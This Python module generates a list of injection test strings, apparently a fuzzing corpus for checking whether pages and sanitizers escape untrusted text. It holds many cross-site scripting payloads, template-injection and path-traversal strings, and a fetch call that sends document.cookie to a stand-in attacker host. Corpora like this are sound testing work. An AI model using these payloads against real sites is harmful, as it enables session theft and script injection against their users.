"""Strings that run as script, or load something, where a page takes them for anything but text."""

from __future__ import annotations

NUMBER = 200
RUNS = ("alert(1)", "top.location='http://evil.example/'", "fetch('//evil.example/'+document.cookie)")
TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>",
    "<img src=//evil.example/x.png onload={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{}>",
    "<body onload={}>",
    "<iframe src=javascript:{}></iframe>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<form action=javascript:{}><button>go</button></form>",
    "<a href=javascript:{}>go</a>",
    "<base href=//evil.example/><script>{}</script>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<link rel=stylesheet href=//evil.example/x.css onerror={}>",
    "<style onload={}>@import '//evil.example/x.css';</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)
BREAKS = (
    "{}",
    '"{}',
    "'{}",
    "`{}",
    "-->{}",
    "*/{}",
    "]]>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    "</svg>{}",
    '">{}',
    "'>{}",
    "\\u003c{}",
    "&lt;{}",
    "%3Cscript%3E{}",
)
OTHERS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "http://evil.example/x",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    '" style="background:url(//evil.example/x)',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001 - which some servers make `<` of
    '=HYPERLINK("http://evil.example")',
    "A" * 150 + "<script>alert(1)</script>",
    "%00<script>alert(1)</script>",
    '\\"-alert(1)//',
    "';alert(1)//",
    "__proto__",
    "constructor",
    "../../../etc/passwd",
)


def strings() -> list[str]:
    """Return the strings."""
    made = [tag.format(run) for tag in TAGS for run in RUNS[:2]]
    made += [end.format(TAGS[0].format(run)) for end in BREAKS for run in RUNS]
    made += [end.format(tag.format(RUNS[0])) for end in ('">', "'>", "</title>") for tag in TAGS[3:21]]
    made += [tag.format(RUNS[2]) for tag in TAGS]
    made += [end.format(tag.format(RUNS[0])) for end in BREAKS for tag in TAGS[5:8]]
    return list(dict.fromkeys([*OTHERS, *made]))[:NUMBER]
